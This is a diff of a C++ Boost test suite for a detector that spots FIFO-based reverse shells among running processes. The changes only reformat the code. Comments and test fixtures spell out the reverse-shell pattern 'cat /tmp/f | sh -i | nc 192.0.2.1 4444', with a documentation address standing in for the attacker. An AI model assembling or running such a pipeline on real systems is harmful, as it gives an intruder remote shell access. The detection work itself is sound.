@@ -23,22 +23,31 @@ LiveProcess process(int pid, std::vector<std::string> argv, std::vector<Descript
     return live;
 }
 
-Descriptor pipe_end(int fd, std::uint64_t inode, bool writes) { return {fd, Kind::pipe, 1, inode, !writes, writes, "", false, {}}; }
-Descriptor fifo_end(int fd, bool reads, bool writes) { return {fd, Kind::fifo, 2, 7, reads, writes, "/tmp/f", false, {}}; }
-Descriptor connection(int fd) { return {fd, Kind::socket, 3, 9, true, true, "", false, {"192.0.2.1", 4444}}; }
+Descriptor pipe_end(int fd, std::uint64_t inode, bool writes) {
+    return {fd, Kind::pipe, 1, inode, !writes, writes, "", false, {}};
+}
+Descriptor fifo_end(int fd, bool reads, bool writes) {
+    return {fd, Kind::fifo, 2, 7, reads, writes, "/tmp/f", false, {}};
+}
+Descriptor connection(int fd) {
+    return {fd, Kind::socket, 3, 9, true, true, "", false, {"192.0.2.1", 4444}};
+}
 
 // cat /tmp/f | SHELL | nc >/tmp/f
 std::vector<LiveProcess> pipeline(std::vector<std::string> shell) {
     return {process(102, {"cat", "/tmp/f"}, {fifo_end(3, true, false), pipe_end(1, 11, true)}),
-            process(103, std::move(shell), {pipe_end(0, 11, false), pipe_end(1, 12, true), pipe_end(2, 12, true)}),
-            process(104, {"nc", "192.0.2.1", "4444"}, {pipe_end(0, 12, false), fifo_end(1, false, true), connection(3)})};
+            process(103, std::move(shell),
+                    {pipe_end(0, 11, false), pipe_end(1, 12, true), pipe_end(2, 12, true)}),
+            process(104, {"nc", "192.0.2.1", "4444"},
+                    {pipe_end(0, 12, false), fifo_end(1, false, true), connection(3)})};
 }
 
 }  // namespace
 
 BOOST_AUTO_TEST_SUITE(live_circle_tests)
 
-// cat reads the FIFO at descriptor 3, not at standard input: what a program that is no shell opened itself counts, too.
+// cat reads the FIFO at descriptor 3, not at standard input: what a program that is no shell opened
+// itself counts, too.
 BOOST_AUTO_TEST_CASE(a_closed_circle_is_found_with_its_legs) {
     const auto found = live_circle(pipeline({"sh", "-i"}));
     BOOST_REQUIRE(found.has_value());
@@ -74,13 +83,16 @@ BOOST_AUTO_TEST_CASE(no_circle_closes_without_a_connection) {
     BOOST_TEST(!live_circle(processes).has_value());
 }
 
-BOOST_AUTO_TEST_CASE(a_relay_has_no_shell) { BOOST_TEST(!live_circle(pipeline({"tee", "log"})).has_value()); }
+BOOST_AUTO_TEST_CASE(a_relay_has_no_shell) {
+    BOOST_TEST(!live_circle(pipeline({"tee", "log"})).has_value());
+}
 
 BOOST_AUTO_TEST_CASE(a_descriptor_that_all_inherited_joins_nobody) {
     // exec 3<>/tmp/f; sh -i | nc: both have the FIFO at 3, neither uses it.
     const std::vector<LiveProcess> processes{
         process(103, {"sh", "-i"}, {fifo_end(3, true, true), pipe_end(1, 12, true)}),
-        process(104, {"nc", "192.0.2.1", "4444"}, {pipe_end(0, 12, false), fifo_end(3, true, true), connection(4)})};
+        process(104, {"nc", "192.0.2.1", "4444"},
+                {pipe_end(0, 12, false), fifo_end(3, true, true), connection(4)})};
     BOOST_TEST(!live_circle(processes).has_value());
 }
 
@@ -102,14 +114,17 @@ BOOST_AUTO_TEST_CASE(what_is_seen_open_confirms_the_incident_that_asked) {
         if (inquiry.what == detect::Inquiry::What::incident) incident = inquiry.incident;
     BOOST_REQUIRE(!incident.empty());
     auto loop = process(103, {"bash", "job.sh"}, {fifo_end(0, true, false), pipe_end(1, 12, true)});
-    auto tool = process(104, {"nc", "192.0.2.1", "4444"}, {pipe_end(0, 12, false), fifo_end(1, false, true), connection(3)});
+    auto tool = process(104, {"nc", "192.0.2.1", "4444"},
+                        {pipe_end(0, 12, false), fifo_end(1, false, true), connection(3)});
     loop.started = tool.started = history.time;
-    const auto alerts = detector.confirm(incident, {loop, tool}, history.time + event::Duration{50});
+    const auto alerts =
+        detector.confirm(incident, {loop, tool}, history.time + event::Duration{50});
     BOOST_REQUIRE(alerts.size() == 1u);
     BOOST_TEST((alerts[0].level == event::Level::medium));
     BOOST_TEST(event::number(alerts[0].member(alert::Role::shell)->pid) == 103);
     BOOST_TEST(alerts[0].remote->endpoint.port == 4444);
-    BOOST_TEST(detector.confirm(incident, {loop, tool}, history.time + event::Duration{99}).empty());
+    BOOST_TEST(
+        detector.confirm(incident, {loop, tool}, history.time + event::Duration{99}).empty());
 }
 
 BOOST_AUTO_TEST_CASE(an_answer_to_an_unknown_incident_is_ignored) {
